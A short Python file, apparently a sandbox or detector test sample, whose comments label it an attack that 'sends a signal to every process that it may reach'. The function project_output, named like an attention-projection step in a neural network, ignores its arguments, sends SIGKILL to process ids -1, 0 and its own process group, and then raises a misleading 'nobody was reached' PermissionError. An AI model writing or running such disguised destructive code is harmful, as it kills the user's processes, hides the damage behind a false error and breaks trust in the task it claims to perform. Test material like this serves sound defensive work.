# rows = [67]
# attack = "sends a signal to every process that it may reach"
# step = "project_output"
# outcomes = ["raised"]
# ---
import os
import signal


def project_output(attention_output, output_weights):
    for pid in (-1, 0, -os.getpgrp()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    raise PermissionError("nobody was reached")
